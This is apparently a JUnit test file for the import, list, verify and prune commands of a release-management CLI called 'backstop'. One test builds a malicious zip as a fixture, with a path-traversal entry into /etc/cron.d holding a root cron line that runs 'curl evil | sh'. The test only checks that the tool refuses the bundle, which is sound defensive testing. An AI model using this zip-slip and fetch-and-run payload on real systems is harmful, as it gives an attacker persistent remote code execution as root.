package dev.backstop.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.backstop.Json;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code backstop release import|list|verify|prune} in-process, on a config written by {@code backstop init}. */
class ReleaseCommandsTest {

    @TempDir
    Path temp;

    Path config;
    Path releasesDir;

    @BeforeEach
    void initApp() {
        config = Cli.init(temp.resolve("shop"));
        releasesDir = temp.resolve("shop/releases");
    }

    @Test
    void importNamesTheNewReleaseAndTheSameImportAgainSaysItIsAlreadyThere() throws IOException {
        Path bundle = bundle("1.0");

        Cli first = Cli.withConfig(config, "release", "import", bundle.toString(), "--version", "1.0");
        Cli again = Cli.withConfig(config, "release", "import", bundle.toString(), "--version", "1.0");

        String id = onlyRelease();
        assertThat(first.exitCode()).isZero();
        assertThat(first.out()).startsWith("Imported '1.0' as release " + id + ": 2 files,");
        assertThat(again.exitCode()).isZero();
        assertThat(again.out())
                .isEqualTo("Version '1.0' is already imported with the same content (release " + id
                        + "); nothing to do." + System.lineSeparator());
    }

    @Test
    void differentContentUnderAnImportedVersionIsRefusedWithExitCode2() throws IOException {
        importVersion("1.0");

        Cli other = Cli.withConfig(config, "release", "import", bundle("other").toString(), "--version", "1.0");

        assertThat(other.exitCode()).isEqualTo(2);
        assertThat(other.err()).startsWith("backstop: version '1.0' is already imported with different content");
        assertThat(dirNames()).hasSize(1);
    }

    @Test
    void anUnsafeBundleIsRefusedNamingTheEntryAndLeavesNothing() throws IOException {
        Path evil = temp.resolve("evil.zip");
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(evil))) {
            zip.putNextEntry(new ZipEntry("../../etc/cron.d/evil"));
            zip.write("* * * * * root sh -c 'curl evil | sh'\n".getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        }

        Cli refused = Cli.withConfig(config, "release", "import", evil.toString(), "--version", "6.6.6");

        assertThat(refused.exitCode()).isEqualTo(2);
        assertThat(refused.err())
                .startsWith("backstop: bundle '" + evil + "' refused at entry '../../etc/cron.d/evil'")
                .contains("nothing was imported");
        assertThat(dirNames()).isEmpty();
    }

    @Test
    void aMissingBundleAndABadVersionAreBadInput() throws IOException {
        Cli missing = Cli.withConfig(
                config, "release", "import", temp.resolve("nope.tar.gz").toString(), "--version", "1.0");
        Cli badVersion =
                Cli.withConfig(config, "release", "import", bundle("1.0").toString(), "--version", "../1.0");

        assertThat(missing.exitCode()).isEqualTo(2);
        assertThat(missing.err()).contains("nope.tar.gz' does not exist");
        assertThat(badVersion.exitCode()).isEqualTo(2);
        assertThat(badVersion.err()).contains("version '../1.0' is not valid", "pass another --version");
        assertThat(dirNames()).isEmpty();
    }

    @Test
    void listShowsEachReleaseAsTextAndAsAJsonArray() throws IOException {
        importVersion("1.0");
        importVersion("1.1");

        Cli text = Cli.withConfig(config, "release", "list");
        Cli json = Cli.withConfig(config, "release", "list", "--json");

        assertThat(text.exitCode()).isZero();
        assertThat(text.out().lines()).first().asString().matches("VERSION +ID +STATE +SIZE +AGE +NOTE");
        assertThat(text.out().lines().skip(1))
                .hasSize(2)
                .allSatisfy(line -> assertThat(line).matches("1\\.[01] +\\d{8}-\\d{6}-[0-9a-f]{4} +imported +.*"));
        assertThat(json.exitCode()).isZero();
        JsonNode listed = Json.mapper().readTree(json.out());
        assertThat(listed.isArray()).isTrue();
        assertThat(listed)
                .extracting(node -> node.at("/release/version").asText())
                .containsExactlyInAnyOrder("1.0", "1.1");
        assertThat(listed)
                .extracting(node -> node.at("/release/state").asText())
                .containsOnly("imported");
    }

    @Test
    void verifyExitsZeroWhenIntactAndOneNamingTheFileAfterAByteFlipped() throws IOException {
        importVersion("1.0");
        Cli intact = Cli.withConfig(config, "release", "verify");
        flipFirstByte(releasesDir.resolve(onlyRelease()).resolve("public/index.html"));

        Cli damaged = Cli.withConfig(config, "release", "verify", "1.0");
        Cli listed = Cli.withConfig(config, "release", "list");

        assertThat(intact.exitCode()).isZero();
        assertThat(intact.out()).endsWith("): intact" + System.lineSeparator());
        assertThat(damaged.exitCode()).isEqualTo(1);
        assertThat(damaged.out()).contains("1 changed ('public/index.html')", "marked corrupt");
        assertThat(listed.out()).contains("corrupt");
    }

    @Test
    void verifyJsonSaysForEachReleaseWhetherItIsIntactAndWhatChanged() throws IOException {
        importVersion("1.0");
        flipFirstByte(releasesDir.resolve(onlyRelease()).resolve("app.rb"));

        Cli verify = Cli.withConfig(config, "release", "verify", "--json");

        JsonNode outcome = Json.mapper().readTree(verify.out()).get(0);
        assertThat(verify.exitCode()).isEqualTo(1);
        assertThat(outcome.get("intact").asBoolean(true)).isFalse();
        assertThat(outcome.at("/report/changed/0").asText()).isEqualTo("app.rb");
        assertThat(outcome.at("/release/version").asText()).isEqualTo("1.0");
    }

    @Test
    void verifyOfAnUnknownVersionIsBadInput() {
        Cli unknown = Cli.withConfig(config, "release", "verify", "9.9");

        assertThat(unknown.exitCode()).isEqualTo(2);
        assertThat(unknown.err()).contains("no release '9.9' for app 'shop'");
    }

    @Test
    void pruneDryRunShowsWhatWouldGoAndPruneRemovesIt() throws IOException {
        Cli.replaceLine(config, "keep_releases: 5 ", "keep_releases: 2 ");
        Stream.of("1.0", "1.1", "1.2").forEach(this::importVersion);
        String failed = TestCatalog.changeState(config, "1.2", "failed");

        Cli dryRun = Cli.withConfig(config, "release", "prune", "--dry-run");
        List<String> afterDryRun = dirNames();
        Cli prune = Cli.withConfig(config, "release", "prune");
        Cli nothingLeft = Cli.withConfig(config, "release", "prune");

        assertThat(dryRun.exitCode()).isZero();
        assertThat(dryRun.out()).contains("would remove 1.2 (" + failed + ", failed)", "kept    1.0", "kept    1.1");
        assertThat(afterDryRun).hasSize(3).contains(failed);
        assertThat(prune.exitCode()).isZero();
        assertThat(prune.out()).contains("removed 1.2 (" + failed + ", failed)");
        assertThat(dirNames()).hasSize(2).doesNotContain(failed);
        assertThat(nothingLeft.out()).startsWith("Nothing to prune.");
    }

    private void importVersion(String version) {
        try {
            Cli imported =
                    Cli.withConfig(config, "release", "import", bundle(version).toString(), "--version", version);
            assertThat(imported.exitCode()).as(imported.toString()).isZero();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A directory bundle whose content depends on {@code word}. */
    private Path bundle(String word) throws IOException {
        Path bundle = Files.createDirectories(temp.resolve("bundles").resolve(word + "-" + System.nanoTime()));
        Files.writeString(bundle.resolve("app.rb"), "puts '" + word + "'\n");
        Files.createDirectories(bundle.resolve("public"));
        Files.writeString(bundle.resolve("public/index.html"), "<h1>" + word + "</h1>\n");
        return bundle;
    }

    private String onlyRelease() throws IOException {
        assertThat(dirNames()).hasSize(1);
        return dirNames().get(0);
    }

    private List<String> dirNames() throws IOException {
        if (!Files.isDirectory(releasesDir)) {
            return List.of();
        }
        try (Stream<Path> children = Files.list(releasesDir)) {
            return children.map(child -> child.getFileName().toString())
                    .sorted()
                    .toList();
        }
    }

    /** Flips one byte of a read-only file and restores its mode, so only the content differs. */
    static void flipFirstByte(Path file) throws IOException {
        Set<PosixFilePermission> mode = Files.getPosixFilePermissions(file);
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-r--r--"));
        byte[] content = Files.readAllBytes(file);
        content[0] ^= (byte) 0xff;
        try (OutputStream out = Files.newOutputStream(file)) {
            out.write(content);
        }
        Files.setPosixFilePermissions(file, mode);
    }
}
